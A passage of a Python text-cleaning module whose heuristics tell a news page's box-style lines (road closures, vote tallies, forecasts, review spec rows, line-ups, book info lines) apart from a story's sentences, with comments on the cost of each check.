# M-10 at Eight Mile: right lane closed"): the closure's word opening the value, or a lane's closure closing it,
# the row short and with no stop; a story's sentence about a closure ends on its stop.
_CLOSURE_WORDS = frozenset(
    "closed Closed CLOSED delayed Delayed DELAYED canceled Canceled cancelled Cancelled reopened Reopened".split()
)
_LANE_CLOSURES = (" lane closed", " lanes closed", " ramp closed", " lane blocked", " lanes blocked")
_CLOSURE_ROW_MAX_CHARACTERS = 100
# The most words after a closure's word in a row ("Delayed 2 hours", "closed for downed wires").
_CLOSURE_ROW_MAX_WORDS_AFTER = 3
# A school board's or a council's tally under its label, the ayes' names after it ("Vote: 5-2. Yes: Nancy
# Humbles, ... No: ..."), or alone ("Vote: 7-2"): a story says its vote in a sentence ("The board voted 5-2 to
# approve the closings ...").
_TALLY = re.compile(r"\d{1,2}[-–]\d{1,2}\.?(?:$| (?:Yes|Ayes|Aye|For|In favor)\s*+:)")
# The match facts', the practical box's and the desks' boxes' labels as one set, a labelled line asked one
# look-up.
_BOX_ROW_LABELS = _MATCH_FACT_LABELS | _PRACTICAL_LABELS | _DESK_BOX_LABELS
# The headings over the emergencies and local-government desks' lists (the twenty-third outlets round),
# alone on their lines: a storm page's "Closings and delays" and "Road closures:", a hurricane story's
# "Evacuation zones" and "Shelters open", a council story's "On the agenda", Il Tirreno's "Ordine del giorno".
_DESK_LIST_HEADINGS = frozenset(
    (
        "closings and delays", "school closings", "closings", "road closures", "road closures:",
        "evacuation zones", "shelters open", "open shelters", "on the agenda", "ordine del giorno",
        "public notice",
        # A listing's box heading over its rows (the Abendblatt's "Angebot der Woche").
        "angebot der woche", "immobilie der woche", "wohnung der woche",
    )
)  # fmt: skip
# The match facts', the review's and the desks' lists' headings as one set, a line asked one look-up.
_BOX_HEADINGS = _MATCH_FACTS_HEADINGS | REVIEW_HEADINGS | _DESK_LIST_HEADINGS


def is_figures_line(text: str) -> bool:
    """Whether a line (or a page's paragraph) is a numbers desk's figures or note set as a line of its own
    (see the module's docstring), not the story's sentence."""
    # Each kind's characters tested in C first, the fewest tests a line of prose passes through: a test for
    # each kind in turn had cost an XSum article's 17 lines some 190,000 instructions.
    size = len(text)
    last = text[-1:]
    if last in "%)|":
        # A book's info line inside the branch the line's last character already opens: a test of its own had
        # cost every line some 250 instructions.
        if last == ")" and size <= _BOOK_LINE_MAX_CHARACTERS and " by " in text and _is_book_line(text):
            return True
        if size <= _QUOTE_ROW_MAX_CHARACTERS:
            if last == "|":
                return _is_box_table_row(text)
            if (row := _QUOTE_ROW.fullmatch(text)) is not None and _is_a_name(row["name"].split()):
                return True
            if text[:1] == "(" and "=" in text and _CURRENCY_NOTE.fullmatch(text) is not None:
                return True
            if last == ")" and "illi" in text and _TABLE_CAPTION.fullmatch(text) is not None:
                return True
    if (opening := text[:_OPENING_CHARACTERS]) in _OPENINGS:
        if text[:1].islower():
            return (
                size <= _COMMAND_LINE_MAX_CHARACTERS
                and last not in ".!?"
                and ("hxxp" in text or "[.]" in text)
                and _COMMAND_LINE.match(text) is not None
            )
        # A review's run and a film's details behind the openings' look-up the line pays already: a
        # str.startswith of their openings had cost every line 800 instructions.
        if opening in _CULTURE_OPENINGS:
            return _is_culture_line(text, size)
        if (
            opening[:1].isdigit()
            and size <= _TASTING_ROW_MAX_CHARACTERS
            and _TASTING_ROW.fullmatch(text) is not None
        ):
            return True
        if (provider := _DATA_PROVIDER.fullmatch(text)) is not None:
            return _is_a_name(provider["provider"].split())
        if _TERMINAL_AD.fullmatch(lowered := text.lower()) or _LIVE_BLOG_CALL.fullmatch(lowered):
            return True
        if size <= _HEADING_MAX_CHARACTERS and _TABLE_HEADING.fullmatch(lowered):
            return _is_a_name(text.split()[1:])
    if last == "." and text.endswith(" own.") and _OPINIONS_OWN.fullmatch(text.lower()) is not None:
        return True
    # The label's colon looked for in its first characters alone, in C: a search of a whole paragraph for ": "
    # and a count of its spaces had cost a CNN/DM article (one line of some 4,000 characters) some 45,000
    # instructions. A colon anywhere first, one character's search in memchr: 92% of an XSum article's lines
    # hold none, and the bounded search's parsed arguments had cost each of them 1,800 instructions.
    if (
        size <= _MATCH_FACTS_MAX_CHARACTERS
        and ":" in text
        and (colon := text.find(": ", 0, _LINE_UP_LABEL_CHARACTERS + 2)) > 0
    ):
        label = text[:colon]
        if (
            size <= _SPEC_ROW_MAX_CHARACTERS
            and (last not in ".!?" or (text.endswith(_HOURS_ENDS) and label.casefold() in _HOURS_LABELS))
            and _is_review_row(label, text[colon + 2 :])
        ):
            return True
        # A box's line goes on in names and figures; a sentence after the word ("Tarjetas: el Gobierno aprueba
        # ...", "Arbitro: la Consob ha deciso ...") opens in lower case.
        # A practical box's row opens on a label of its own, its value run on in a sentence, in lower case or not
        # as Italian sets it ("Come arrivare: in treno ..."): one look-up of the folded label for both sets.
        if (folded := label.casefold()) in _BOX_ROW_LABELS and (
            (
                text.count(" ", colon + 2) >= _PRACTICAL_VALUE_MIN_SPACES
                and not _is_news_run_in(text[colon + 2 :])
                and not (
                    folded in _LISTING_TEASER_LABELS
                    and any(
                        word.strip(".,;:!?") in _NEWS_VERBS for word in text[colon + 2 :].casefold().split()
                    )
                )
            )
            if folded in _PRACTICAL_LABELS
            else not text[colon + 2 : colon + 3].islower()
            and (folded not in _DESK_BOX_LABELS or _is_desk_box_value(folded, text[colon + 2 :], last))
        ):
            return True
        if (size <= _CLOSURE_ROW_MAX_CHARACTERS or folded == "vote") and _is_desk_row(
            folded, text[colon + 2 :], last
        ):
            return True
        if (text.count(";") >= 2 or text.count(" - ") >= 3) and _marks_a_match_s_line_up(label):
            return _is_line_up(text[colon + 2 :])
    if size <= _TABLE_ROW_MAX_CHARACTERS:
        # The headings' tests all in C: a call for each short line had cost more than they do.
        # A review's stars among the short lines' tests: a test of every line's last character against the
        # stars' had cost each line some 500 instructions.
        if size <= _HEADING_MAX_CHARACTERS and (
            (folded := text.casefold()) in _BOX_HEADINGS
            or not text.strip(_STARS)
            or (text.endswith(_REVIEW_HEADING_ENDS) and not text.startswith("The "))
            or folded.startswith(_REVIEW_HEADING_OPENINGS)
            or (folded.startswith(_TRUST_HEADING) and " " not in folded[_TRUST_HEADING_CHARACTERS:])
        ):
            return True
        if (
            text[:1] in "$£€"
            and size <= _DEAL_ROW_MAX_CHARACTERS
            and (deal := _DEAL_ROW.fullmatch(text)) is not None
            and _is_a_name(deal["shop"].split())
        ):
            return True
        if (
            text.endswith(_TABLE_ROW_ENDS)
            and (row := _TABLE_ROW.fullmatch(text)) is not None
            and all(word[0].isupper() for word in row["club"].split())
        ):
            return True
    return (
        size <= _BOX_SCORE_MAX_CHARACTERS
        and last not in ".!?"
        and text.count("-") >= 4
        and len(_BOX_SCORE_ENTRY.findall(text)) >= _BOX_SCORE_ENTRIES
    )


def is_desk_list_heading(text: str) -> bool:
    """Whether a line is the heading of an emergencies or local-government desk's list ("Shelters open",
    "On the agenda", "Ordine del giorno", "PUBLIC NOTICE"): the rows under it in its block are the list's."""
    return text.casefold() in _DESK_LIST_HEADINGS


def is_practical_row(text: str) -> bool:
    """Whether a line opens on a travel story's practical box's label (:data:`_PRACTICAL_LABELS`: "Getting
    there:", "Come arrivare:")."""
    colon = text.find(":", 0, _LINE_UP_LABEL_CHARACTERS + 2)
    return colon > 0 and text[:colon].casefold() in _PRACTICAL_LABELS


def _is_box_table_row(text: str) -> bool:
    """Whether a table's row between bars, as a page's table comes out of it, is a box's line
    (:func:`is_figures_line`) in one or two cells: a review's spec table ("| Display: | 6.3in OLED, 120Hz |"),
    its caption over it ("| Google Pixel 11 specs | |"), read as the line its cells make ("Display: 6.3in
    OLED, 120Hz"), as the pasted copy sets it; or a box score's row or heading. A wider table is a story's
    figures."""
    cells = text.strip("| ").split(" | ")
    if "|" in (line := " ".join(cells)):
        return False
    if len(cells) <= _BOX_TABLE_CELLS:
        return is_figures_line(line)
    # A box score's row, a player's in a cell each ("| Jokic | 12-21 | 5-6 | 31 |", the AP's as a page's table
    # sets it), as the pasted copy's row holds the same entry; and its heading, the team's over the columns'
    # abbreviations ("| DENVER (109) | FG | FT | PTS |").
    return _BOX_SCORE_ENTRY.fullmatch(line) is not None or _BOX_SCORE_COLUMNS.issuperset(cells[1:])


def is_share_table_row(text: str) -> bool:
    """Whether a table's row between bars is a poll's choice and its share, a cell each (:data:`_SHARE_CELL`:
    "| Not sure | 8% |", "| AfD | 34 % |"): the label of a few words, opening on a capital, no figure."""
    cells = text.strip("| ").split(" | ")
    return (
        len(cells) == _BOX_TABLE_CELLS
        and cells[0][:1].isupper()
        and _SHARE_CELL.fullmatch(cells[1]) is not None
        and not any(map(str.isdigit, cells[0]))
        and cells[0].count(" ") < _SHARE_LABEL_MAX_WORDS
    )


def _is_desk_box_value(label: str, value: str, last: str) -> bool:
    """Whether the ``value`` after a desks' box label (:data:`_DESK_BOX_LABELS`, the ``label`` folded; its
    ``last`` character) is a box's: a figure, a list or a name and its court, ending no sentence."""
    # A figure, or a list's comma or semicolon: a headline's kicker ("Judge: Trump's lawyer can be deposed",
    # "Zone A: Mandatory evacuation ordered for coastal areas", "Containment: Firefighters Make Progress")
    # goes on in words. An outage map's line is the map's link, in words.
    if (
        label in _SERVICE_DESK_BOX_LABELS
        and (
            any(
                word in _HEADLINE_GRAMMAR_WORDS or word == "to"
                for word in value.partition(",")[0].casefold().split()
            )
            # A rivals' list is of names ("Nissan Qashqai, Kia Sportage"); a sports desk's headline under the label
            # goes on in lower case ("Rivals: Arsenal, Spurs and Chelsea all lost").
            or (
                label == "rivals"
                and not all(word[:1].isupper() or word[:1].isdigit() for word in value.split())
            )
        )
    ):
        return False
    return last not in ".!?" and (
        label.endswith("map")
        or "," in value
        or ";" in value
        or any(character.isdigit() for character in value)
    )


def _is_desk_row(label: str, value: str, last: str) -> bool:
    """Whether a short labelled line (its ``label`` folded, its ``value`` after the colon, its ``last``
    character) is a forecast's row (:data:`_FORECAST_DAYS`, :data:`_TEMPERATURES`), a closings list's
    (:data:`_CLOSURE_WORDS`) or a vote's tally ("Vote: 5-2. Yes: ...", :data:`_TALLY`)."""
    if label in _FORECAST_DAYS:
        # A sentence of news after the day goes on past the figure with a verb in its first clause ("High 45 mph
        # winds are expected to close the bridge at noon"); a forecast's row has its readings and times there
        # ("High 5 at noon"), its outlook after them, joined on ("High 52 with showers expected", "High 70 and
        # sunny; winds will gust to 30 mph") or a sentence of its own ("Low 24. Snow will fall after midnight.").
        return (
            value.startswith(_FORECAST_VALUES)
            and value[value.find(" ") + 1 : value.find(" ") + 2].isdigit()
            and not has_a_verb(_FORECAST_OUTLOOK.split(value, maxsplit=1)[0].split())
        )
    if "°" in value:
        return _TEMPERATURES.fullmatch(value) is not None
    if label == "vote":
        return _TALLY.match(value) is not None
    if last in ".!?":
        return False
    # The closure's word opens the value, or a lane's closure closes it: a cross-head's "Brexit: Vote delayed"
    # is a headline's. The word alone, or after a school's or a road's name of two words or more in a few
    # words ("Oakland University: Delayed 2 hours"): a headline's kicker is a word before its own words
    # ("Fed: Delayed rate cut hurts buyers", "Museum: Reopened after 10 years").
    if value.endswith(_LANE_CLOSURES):
        return True
    word, _, rest = value.partition(" ")
    return word in _CLOSURE_WORDS and (
        not rest or (" " in label and rest.count(" ") < _CLOSURE_ROW_MAX_WORDS_AFTER)
    )


def _is_culture_line(text: str, size: int) -> bool:
    """Whether a line opening on one of :data:`_CULTURE_OPENINGS` is a review's run and tickets
    (:data:`_RUN_LINE`) or a film's certificate or release (:data:`_FILM_DETAILS`)."""
    if size <= _FILM_DETAILS_MAX_CHARACTERS and _FILM_DETAILS.fullmatch(text) is not None:
        return True
    return (
        size <= _RUN_LINE_MAX_CHARACTERS and "until" in text.lower() and _RUN_LINE.fullmatch(text) is not None
    )


def _is_book_line(text: str) -> bool:
    """Whether a line is a book review's info line (:data:`_BOOK_DETAILS`): its title and " by " its author, no
    sentence's stop, before the bracket of its publisher, pages and price that closes it."""
    bracket = text.rfind("(")
    head = text[:bracket]
    # An author that is an institution, "the" and its capitalised name: a committee's or an office's report cited
    # in a story ("Report by the Committee on Budget (HC 123, 45 pages)") is the story's source. A writer in lower
    # case ("by bell hooks", "by a former spy") is still the review's.
    return (
        bracket > 0
        and " by " in head
        and not _is_an_institution(head[head.rfind(" by ") + 4 :])
        and ". " not in head
        and head[:1].isupper()
        and _BOOK_DETAILS.fullmatch(text, bracket) is not None
    )


def _marks_a_match_s_line_up(label: str) -> bool:
    """Whether a line-up's ``label`` marks it as a match's (:data:`_FORMATION`, :data:`_LINE_UP_WORDS`,
    :data:`_SCORE_BEFORE_TEAM`), not a team-news story's side."""
    # After a line-up's word, the team's name: "Composition of the new cabinet: Starmer; Reeves, ..." is a
    # government's, a politics story's news.
    return (
        (label[-1:] == ")" and _FORMATION.search(label) is not None)
        or (label.casefold().startswith(_LINE_UP_WORDS) and _is_a_name(label.split()[1:]))
        or (label[:1].isdigit() and _SCORE_BEFORE_TEAM.match(label) is not None)
    )


def _is_line_up(names: str) -> bool:
    """Whether ``names``, what follows a line's label, are a team's line-up (:data:`_LINE_UP_PARTING`)."""
    items = _LINE_UP_PARTING.split(names.rstrip("."))
    return len(items) >= _LINE_UP_NAMES and all(
        0 < len(item_words := item.split()) <= _LINE_UP_NAME_WORDS and item_words[-1][0].isupper()
        for item in items
    )


def _is_a_name(words: list[str]) -> bool:
    """Whether ``words`` are a name's (a provider's, a league's, a team's): each capitalised, a figure, or one of
    :data:`_NAME_JOINERS`."""
    return all(word[0].isupper() or word[0].isdigit() or word in _NAME_JOINERS for word in words)


def _is_an_institution(author: str) -> bool:
    """Whether a book line's ``author`` (after its " by ") is "the" and a capitalised name ("the Committee on
    Budget")."""
    return author[:4] == "the " and author[4:5].isupper()


def _is_news_run_in(value: str) -> bool:
    """Whether a travel box's label stands over a sentence of news (:data:`_NEWS_VERBS`, a German auxiliary and
    its verb last, :func:`_is_german_report`), not the box's directions."""
    if value[:1].islower() or _PRACTICAL_FIGURE.search(value) is not None:
        return False
    words = value.casefold().split()
    return any(word.strip(".,;:!?\"'»«") in _NEWS_VERBS for word in words) or _is_german_report(value.split())


def _is_german_report(words: list[str]) -> bool:
    """Whether a German run-in's ``words`` report what happened or will (:data:`_GERMAN_AUXILIARIES`, the verb
    last in lower case), no timetable's (:data:`_STANDING_WORDS`)."""
    last = words[-1].rstrip(".!")
    return (
        len(words) > 2
        and last.islower()
        and last.isalpha()
        and words[-2] != "zu"
        and _is_participle_or_infinitive(last, [word for word in words[1:-1] if word in _GERMAN_AUXILIARIES])
        and not any(word in _STANDING_WORDS for word in words)
    )


def _is_participle_or_infinitive(verb: str, auxiliaries: list[str]) -> bool:
    """Whether a German run-in's last word ``verb`` is the participle its ``auxiliaries`` make a perfect or a
    passive of ("gestrichen", "umgebaut", "eröffnet", "renoviert"), or after "wird"/"werden" an infinitive
    ("einstellen"): an adverb or an adjective last ("Mit dem Zug ist man in drei Stunden da.", "Das Hotel ist
    sehr empfehlenswert.") tells how the place is, a box's row."""
    if not auxiliaries or not verb.endswith(("t", "en")):
        return False
    return (
        "ge" in verb[:-2]
        or verb.startswith(_INSEPARABLE_PREFIXES)
        or verb.endswith("iert")
        or (verb.endswith("en") and any(auxiliary in ("wird", "werden") for auxiliary in auxiliaries))
    )


def _is_headline_value(value: str) -> bool:
    """Whether a candidate box's label stands over a headline (:data:`_HEADLINE_VALUE_MIN_WORDS` words or more,
    each capitalised or a joiner, no comma, a verb among them, :data:`SENTENCE_VERBS`: "Occupation: West Bank
    Settlers Attack Villages"), a story's cross-head, not the candidate's job or home, a noun phrase ("Retired
    Oregon State Police Captain")."""
    words = value.split()
    return (
        len(words) >= _HEADLINE_VALUE_MIN_WORDS
        and "," not in value
        and all(word[0].isupper() or word in _TITLE_CASE_JOINERS for word in words)
        and any(
            _is_verb(word)
            and word.casefold() not in _NAMES_OF_PLACES
            and words[index - 1] not in _TITLE_CASE_JOINERS
            for index, word in enumerate(words[1:], 1)
        )
    )


def has_a_verb(words: list[str]) -> bool:
    """Whether one of ``words`` (a line's, split on spaces) is a sentence's or a headline's verb
    (:data:`SENTENCE_VERBS`, :data:`_NEWS_VERBS`), its case and the punctuation around it aside."""
    return any(map(_is_verb, words))


def _is_verb(word: str) -> bool:
    """Whether ``word`` is one of :func:`has_a_verb`'s verbs."""
    return (folded := word.strip(".,;:!?\"'»«").casefold()) in SENTENCE_VERBS or folded in _NEWS_VERBS


def _is_review_row(label: str, value: str) -> bool:
    """Whether a line's ``label`` (before its colon, a space before it in French) and ``value`` are a review's
    spec, price or score row (:data:`_SPEC_LABELS`, :data:`_SCORE_LABELS`)."""
    # A list's marker before the label, as a page's spec list sets it ("- Processeur : Snapdragon 8s Gen 4").
    label = label.rstrip().lstrip("-–•* ").casefold()
    if label in _CANDIDATE_LABELS:
        return (
            not value[:1].islower()
            and not _is_headline_value(value)
            and len(value.split())
            <= (_PARTY_MAX_WORDS if label in _PARTY_LABELS else _CANDIDATE_VALUE_MAX_WORDS)
            and (label not in _AGE_LABELS or value[:1].isdigit())
        )
    # A bookshop's price for the book reviewed ("Spectator Books price: £16.99"): a fact box's "Share price:
    # 230p" or "Asking price: £1.2m" is the story's figure.
    if label in _SPEC_LABELS or (label.endswith(" price") and "book" in label):
        # A spec's figure comes in its first words ("Snapdragon 8s Gen 4", "6.3in OLED"); a cross-head under
        # the label runs on in words ("Storage: A problem for the agency", "Memory: Remembering the victims of
        # the 1994 attack").
        # A price "from" its lowest ("Price: from £31,995"), a car's sale "now" ("On sale: now") and a
        # restaurant's price band ("Price: $$") are the box's too: a run-in sentence goes on past its word.
        from_price = value.startswith("from ")
        if value[:1].islower() and not from_price:
            return value in _SPEC_WORD_VALUES
        # A service desk's label, or a price from a year ("Price: from 2027, buyers will pay more"), may stand
        # over a headline with a figure first: its grammar's words say so.
        if (label in _SERVICE_SPEC_LABELS or from_price) and any(
            word in _HEADLINE_GRAMMAR_WORDS for word in value.casefold().split()[from_price:]
        ):
            return False
        return any(map(str.isdigit, " ".join(value.split(maxsplit=4)[:4]))) or (
            value[:1] in _PRICE_BAND and not value.strip(_PRICE_BAND)
        )
    if label in _SCORE_LABELS and (
        _SCORE.fullmatch(value.rstrip()) is not None or (value[-1:] in _STARS and not value.strip(_STARS))
    ):
        return True
    return label in _RATING_LABELS and value.strip().casefold() in _RATING_VERDICTS


def is_review_row(text: str) -> bool:
    """Whether a line is a review's spec, price or score row (:func:`_is_review_row`), its label before its
    colon."""
    colon = text.find(": ", 0, _LINE_UP_LABEL_CHARACTERS + 2)
    return colon > 0 and _is_review_row(text[:colon], text[colon + 2 :])


def is_pro_item(text: str) -> bool:
    """Whether a line reads as a pro in a review's list, after its plus (TechRadar's "+ Outstanding cameras, day
    and night"): a few capitalised words, no sentence's stop. Its caller asks it under the list's heading only
    (a changelog's "+ Added Slime Block" rows are the story)."""
    return (
        text[:2] == "+ "
        and text[2:3].isupper()
        and len(text) <= _TABLE_ROW_MAX_CHARACTERS
        and text[-1] not in ".!?"
    )
